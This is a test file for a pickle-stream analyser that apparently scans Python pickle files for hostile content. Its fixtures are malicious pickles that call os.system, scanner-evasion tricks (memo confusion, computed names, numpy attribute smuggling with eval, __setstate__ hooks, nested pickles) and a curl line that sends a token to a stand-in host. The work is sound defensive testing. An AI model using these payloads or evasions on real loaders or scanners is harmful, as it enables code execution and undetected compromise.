import { describe, expect, it } from 'vitest';
import { bytesReader } from '../../range.ts';
import { MEMOIZE, STACK_GLOBAL, TUPLE1, TUPLE2, blob, bytes, calledWith, global, proto, stackGlobal, text, uint32 } from './assemble.ts';
import { OPCODE_NAMES } from './opcodes.ts';
import { DEFAULT_LIMITS } from './report.ts';
import { walkPickle } from './walk.ts';
import type { Walk, WalkOptions } from './walk.ts';

function walk(content: Uint8Array, options: Partial<WalkOptions> = {}): Walk {
  return walkPickle(bytesReader(content), 0, { limits: DEFAULT_LIMITS, ...options });
}

const names = (content: Uint8Array): string[] =>
  walk(content).globals.map((reached) => `${reached.opcode} ${reached.module}.${reached.name}${reached.called ? '()' : ''}`);
const anomalies = (content: Uint8Array): string[] => walk(content).anomalies.map(({ what }) => what);
const hex = (digits: string): Uint8Array => Buffer.from(digits, 'hex');

describe('opcodes as pickletools lists them', () => {
  // python3: pickletools.genops(pickle.dumps([1, 'ab', 2**70], 4))
  it('gives each opcode with its offset', () => {
    const listed: string[] = [];
    walk(hex('80049517000000000000005d94284b018c026162948a09000000000000000040652e'), {
      trace: (opcode, offset) => listed.push(`${offset} ${OPCODE_NAMES[opcode]}`),
    });
    expect(listed).toEqual([
      '0 PROTO',
      '2 FRAME',
      '11 EMPTY_LIST',
      '12 MEMOIZE',
      '13 MARK',
      '14 BININT1',
      '16 SHORT_BINUNICODE',
      '20 MEMOIZE',
      '21 LONG1',
      '32 APPENDS',
      '33 STOP',
    ]);
  });

  it('knows all 68 opcodes of protocols 0 to 5', () => {
    // python3: len(pickletools.opcodes)
    expect(OPCODE_NAMES.filter((name) => name !== undefined)).toHaveLength(68);
  });
});

describe('a reduced call in each protocol', () => {
  // python3: pickle.dumps(<object whose __reduce__ returns (os.system, ('id',))>, protocol)
  it.each([
    [0, '63706f7369780a73797374656d0a70300a285669640a70310a7470320a5270330a2e', 'GLOBAL'],
    [1, '63706f7369780a73797374656d0a7100285802000000696471017471025271032e', 'GLOBAL'],
    [2, '800263706f7369780a73797374656d0a71005802000000696471018571025271032e', 'GLOBAL'],
    [3, '800363706f7369780a73797374656d0a71005802000000696471018571025271032e', 'GLOBAL'],
    [4, '8004951d000000000000008c05706f736978948c0673797374656d9493948c02696494859452942e', 'STACK_GLOBAL'],
    [5, '8005951d000000000000008c05706f736978948c0673797374656d9493948c02696494859452942e', 'STACK_GLOBAL'],
  ])('protocol %i', (protocol, digits, opcode) => {
    const found = walk(hex(digits));
    expect(found.globals).toMatchObject([{ module: 'posix', name: 'system', opcode, called: true, count: 1, arguments: ['id'] }]);
    expect(found).toMatchObject({ ended: 'stop', protocol: protocol < 2 ? 0 : protocol, broken: false, anomalies: [] });
  });
});

describe('names that are not written out', () => {
  it('are resolved through the memo, in either numbering', () => {
    expect(
      names(bytes(proto(4), text('os'), MEMOIZE, text('system'), 'q\x05', '00h\x00h\x05', STACK_GLOBAL, calledWith(text('id')), '.')),
    ).toEqual(['STACK_GLOBAL os.system()']);
  });

  // picklescan issue 14: the slots that MEMOIZE counts are not those that BINPUT wrote.
  it('are resolved where BINPUT and MEMOIZE are mixed', () => {
    const confused = bytes(
      'U\x02osq\x00',
      'U\x06systemq\x01',
      'U\x0ctorch._utils',
      MEMOIZE,
      'U\x12_rebuild_tensor_v2',
      MEMOIZE,
      '0000h\x00h\x01',
      STACK_GLOBAL,
      '.',
    );
    expect(names(confused)).toEqual(['STACK_GLOBAL os.system']);
  });

  it('are taken from the slot as it is when read, and overwriting is noted', () => {
    const overwritten = bytes(
      proto(4),
      text('collections'),
      'q\x000',
      text('os'),
      'q\x000',
      text('OrderedDict'),
      'q\x010',
      text('system'),
      'q\x010',
      'h\x00h\x01',
      STACK_GLOBAL,
      '.',
    );
    expect(names(overwritten)).toEqual(['STACK_GLOBAL os.system']);
    expect(anomalies(overwritten)).toContain('memo-overwritten');
  });

  it('survive DUP, POP, POP_MARK and unused literals in between', () => {
    expect(names(bytes(proto(4), text('os'), '2', '0', '(K\x01K\x021', text('x'), '0', text('system'), 'N0', STACK_GLOBAL, '.'))).toEqual([
      'STACK_GLOBAL os.system',
    ]);
  });

  it('are decoded from the escapes of protocol 0', () => {
    expect(names(bytes(proto(4), 'V\\u006fs\n', "S'\\x73ys\\164em'\n", STACK_GLOBAL, '.'))).toEqual(['STACK_GLOBAL os.system']);
  });

  it('count as computed when a call gives them', () => {
    const joined = bytes(
      proto(4),
      stackGlobal('builtins', 'str.join'),
      text(''),
      ']',
      text('o'),
      'a',
      text('s'),
      'a',
      TUPLE2,
      'R',
      text('system'),
      STACK_GLOBAL,
      calledWith(text('id')),
      '.',
    );
    expect(walk(joined).globals.at(-1)).toMatchObject({ module: '<computed>', name: 'system', concerns: ['computed-name'], called: true });
    expect(anomalies(joined)).toContain('computed-name');
  });

  it.each([
    ['bytes', blob(Buffer.from('os'))],
    ['an integer', bytes('J\x2a\x00\x00\x00')],
    ['a bytearray', bytes(0x96, uint32(2), uint32(0), 'os')],
  ])('are reached though one is %s', (_, module) => {
    expect(anomalies(bytes(proto(4), module, text('system'), STACK_GLOBAL, '.'))).toContain('name-not-text');
  });

  it('may come from the extension registry', () => {
    expect(names(bytes(proto(2), 0x82, 7, 0x83, 1, 1, 0x84, 0, 0, 1, 0, '.'))).toEqual([
      'EXT1 <extension>.7',
      'EXT2 <extension>.257',
      'EXT4 <extension>.65536',
    ]);
  });

  it('are trimmed of what a text editor adds', () => {
    expect(names(bytes('cos\r\nsystem\r\n.'))).toEqual(['GLOBAL os.system']);
  });
});

describe('what is called', () => {
  it.each([
    ['INST', bytes("(S'id'\nios\nsystem\n."), 'INST os.system()'],
    ['OBJ', bytes('(', global('os', 'system'), "S'id'\no."), 'GLOBAL os.system()'],
    ['NEWOBJ', bytes(proto(2), global('os', 'system'), 'U\x02id', TUPLE1, 0x81, '.'), 'GLOBAL os.system()'],
    ['NEWOBJ_EX', bytes(proto(4), stackGlobal('os', 'system'), text('id'), TUPLE1, '}', 0x92, '.'), 'STACK_GLOBAL os.system()'],
    ['a memoised REDUCE', bytes(global('os', 'system'), 'q\x000', "h\x00(S'id'\ntR."), 'GLOBAL os.system()'],
  ])('%s', (_, content, expected) => {
    expect(names(content)).toEqual([expected]);
    expect(walk(content).globals[0]?.arguments).toEqual(['id']);
  });

  it('is told from what is only imported', () => {
    expect(names(bytes(global('os', 'system'), '0N.'))).toEqual(['GLOBAL os.system']);
  });

  it('shows literals of lists, keywords and bytes, masked and short', () => {
    const token = ['sk', 'proj'].join('-') + '4x'.repeat(20);
    const found = walk(
      bytes(
        proto(4),
        stackGlobal('subprocess', 'Popen'),
        ']',
        text('sh'),
        'a',
        text(`curl -H token=${token} http://u:pw1234@x.test`),
        'a',
        blob(Buffer.from('raw')),
        TUPLE2,
        'R.',
      ),
    );
    expect(found.globals[0]?.arguments).toEqual(['sh', 'curl -H token=••• http://u:•••@x.test', 'raw']);
    const long = walk(
      bytes(proto(4), stackGlobal('os', 'system'), calledWith(bytes('X', uint32(4000), 'ab '.repeat(1334).slice(0, 4000))), '.'),
    );
    expect(long.globals[0]?.arguments?.[0]).toHaveLength(120);
  });

  it('counts when it is the result of another call', () => {
    const content = bytes(
      proto(4),
      stackGlobal('operator', 'attrgetter'),
      calledWith(text('system')),
      stackGlobal('posix', 'x'),
      TUPLE1,
      'R.',
    );
    expect(anomalies(content)).toContain('computed-call');
  });

  it('joins repeats of one name', () => {
    expect(
      walk(bytes(...Array.from({ length: 50 }, () => bytes(global('collections', 'OrderedDict'), ')R0')), 'N.')).globals,
    ).toMatchObject([{ count: 50, called: true }]);
  });
});

describe('attribute smuggling', () => {
  // modelscan issue 85: BUILD with a slot state sets numpy.prod.a = 'os', then the name is read back from there.
  it('is seen when BUILD rewrites a function', () => {
    const content = bytes(
      proto(5),
      global('numpy', 'prod'),
      'N(Va\nVos\nd',
      TUPLE2,
      'b0',
      global('numpy', 'prod.a'),
      global('numpy', 'prod.a'),
      STACK_GLOBAL,
      '.',
    );
    expect(anomalies(content)).toEqual(['build-on-global', 'computed-name']);
  });

  // modelscan issue 330: numpy.size gets numpy.__builtins__ as an attribute dictionary.
  it('is seen in the published case', () => {
    const content = hex(
      '80049566000000000000008c056e756d70798c0473697a659394948c056e756d70798c0c5f5f6275696c74696e735f5f93949468017d7d8c0573686170656803738662680168018c046576616c86528c1d5f5f696d706f72745f5f28226f7322292e73797374656d28226964222985522e',
    );
    expect(names(content)).toContain('STACK_GLOBAL numpy.__builtins__');
    expect(anomalies(content)).toEqual(expect.arrayContaining(['build-on-global', 'computed-call']));
  });

  it('is seen when an instance gets a hook that Python calls by itself', () => {
    const filler = Array.from({ length: 40 }, (_, index) => bytes(text(`k${index}`), 'N'));
    const content = bytes(
      proto(4),
      stackGlobal('argparse', 'Namespace'),
      ')',
      0x81,
      '}(',
      ...filler,
      text('__setstate__'),
      stackGlobal('os', 'system'),
      'ub',
      text('id'),
      'b.',
    );
    expect(walk(content).anomalies).toMatchObject([{ what: 'dunder-attribute', detail: '__setstate__' }]);
  });

  it('is seen when items are put into a module-level dictionary', () => {
    expect(anomalies(bytes(proto(4), stackGlobal('sys', 'modules'), text('json'), 'Ns.'))).toEqual(['mutates-global']);
  });

  it('is not seen in ordinary state', () => {
    expect(anomalies(bytes(proto(4), stackGlobal('argparse', 'Namespace'), ')', 0x81, '}', text('__doc__'), 'Nsb.'))).toEqual([]);
  });
});

describe('broken, endless and hostile streams', () => {
  const payload = bytes(proto(4), stackGlobal('os', 'system'), calledWith(text('id')));

  it.each([
    ['a byte that is no opcode', bytes(payload, 0xff, 0xfe), 'invalid-opcode'],
    ['the end of the file', payload, 'truncated'],
    ['a length past the end', bytes(payload, 'X', uint32(0xffff_fff0), 'abc'), 'truncated'],
    ['an eight-byte length', bytes(payload, 0x8e, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x7f), 'truncated'],
    ['a negative length', bytes(payload, 'T', uint32(0xffff_ffff)), 'invalid-opcode'],
    ['a line without end', bytes(payload, 'I12'), 'truncated'],
    ['a global cut in half', bytes(payload, 'cos\nsys'), 'truncated'],
  ])('keeps what stood before %s', (_, content, ended) => {
    expect(walk(content)).toMatchObject({ ended, globals: [{ module: 'os', name: 'system', called: true }] });
  });

  it('goes on after a stack error, so that a mistake of ours hides nothing', () => {
    const found = walk(bytes('R', payload, '.'));
    expect(found).toMatchObject({ broken: true, ended: 'stop', globals: [{ module: 'os', name: 'system' }] });
  });

  it('stops at a stack error where the bytes are only tried', () => {
    expect(walk(bytes('R', payload, '.'), { strict: true })).toMatchObject({ ended: 'invalid-opcode', globals: [] });
  });

  it('does not take values from below a mark', () => {
    expect(walk(bytes(proto(4), 'K\x01(0R.')).anomalies[0]?.what).toBe('stack-error');
  });

  it('states each limit', () => {
    const many = bytes(...Array.from({ length: 100 }, () => 'N'), '.');
    expect(walk(many, { limits: { ...DEFAULT_LIMITS, opcodes: 10 } })).toMatchObject({ ended: 'limit', limit: '10 opcodes' });
    expect(walk(many, { limits: { ...DEFAULT_LIMITS, stack: 10 } }).limit).toBe('10 stack entries');
    const memo = bytes(proto(4), ...Array.from({ length: 20 }, () => bytes('N', MEMOIZE)), '.');
    expect(walk(memo, { limits: { ...DEFAULT_LIMITS, memo: 5 } }).limit).toBe('5 memo entries');
    const globals = bytes(...Array.from({ length: 9 }, (_, index) => global('a', `n${index}`)), '.');
    expect(walk(globals, { limits: { ...DEFAULT_LIMITS, globals: 3 } }).limit).toBe('3 different globals');
  });

  it('notes a memo slot that would make the C unpickler allocate gigabytes', () => {
    expect(anomalies(bytes(proto(2), 'Nr', uint32(0x7fff_ffff), '.'))).toEqual(['memo-sparse']);
  });

  it('steps over a literal without reading it', () => {
    let read = 0;
    const head = bytes(proto(4), 0x8e, uint32(0), uint32(2));
    const size = 2 * 4_294_967_296 + head.length + 1;
    const reader = {
      size,
      read: (offset: number, length: number) => {
        const count = Math.max(0, Math.min(length, size - offset));
        read += count;
        return Uint8Array.from({ length: count }, (_, index) => head[offset + index] ?? (offset + index === size - 1 ? 0x2e : 0));
      },
    };
    expect(walkPickle(reader, 0, { limits: DEFAULT_LIMITS })).toMatchObject({ ended: 'stop', end: size, opcodes: 3 });
    expect(read).toBeLessThan(100_000);
  });

  it('reads names that stand across the edges of its window', () => {
    for (const filler of [4080, 4085, 4090, 4095, 12_270]) {
      const content = bytes(
        proto(4),
        'B',
        uint32(filler),
        new Uint8Array(filler),
        '0',
        stackGlobal('os', 'system'),
        calledWith(text('id')),
        '0',
        global('posix', 'popen'),
        '.',
      );
      expect(names(content)).toEqual(['STACK_GLOBAL os.system()', 'GLOBAL posix.popen']);
    }
  });
});

describe('nested pickles', () => {
  const inner = bytes(proto(2), global('os', 'system'), '(U\x02idtR.');

  it.each([
    ['bytes', blob(inner)],
    ['a bytearray', bytes(0x96, uint32(inner.length), uint32(0), inner)],
    ['a Python 2 string', bytes('U', inner.length, inner)],
    ['latin-1 in text', bytes(0x8c, inner.length + 1, Buffer.from(Buffer.from(inner).toString('latin1')))],
    ['protocol 0', blob(bytes("cos\nsystem\n(S'id'\ntR."))],
    ['a zip', blob(bytes('PK\x03\x04', new Uint8Array(30)))],
  ])('are noticed in %s', (_, literal) => {
    expect(walk(bytes(proto(5), literal, '.')).nested).toHaveLength(1);
  });

  it('are not suspected in ordinary text', () => {
    expect(
      walk(bytes(proto(4), text('(see the notes)'), text('class Foo'), text('{"a": 1}'), text(']'), blob(Buffer.from('hello world')), '.'))
        .nested,
    ).toEqual([]);
  });
});

describe('lines of protocol 0', () => {
  it('are read whole where the window ends inside them', () => {
    for (let filler = 4070; filler < 4100; filler += 1) {
      const content = bytes('V', 'x'.repeat(filler), '\np1234\n0', 'Vos\np77\n0Vsystem\np78\n0g77\ng78\n', 0x93, '.');
      const found = walk(content);
      expect(found.anomalies).toEqual([]);
      expect(found.globals).toMatchObject([{ module: 'os', name: 'system' }]);
    }
  });

  it('count as work by their length', () => {
    expect(walk(bytes('V', 'x'.repeat(64_000), '\n.')).opcodes).toBe(1002);
  });
});

describe('the memo', () => {
  it('keeps slots that are numbered far ahead and come near later', () => {
    const far = bytes(text('os'), 'r', uint32(5000), '0');
    const filling = Array.from({ length: 4999 }, (_, index) => bytes('Nr', uint32(index), '0'));
    expect(names(bytes(proto(4), far, ...filling, 'j', uint32(5000), text('system'), STACK_GLOBAL, '.'))).toEqual([
      'STACK_GLOBAL os.system',
    ]);
  });
});
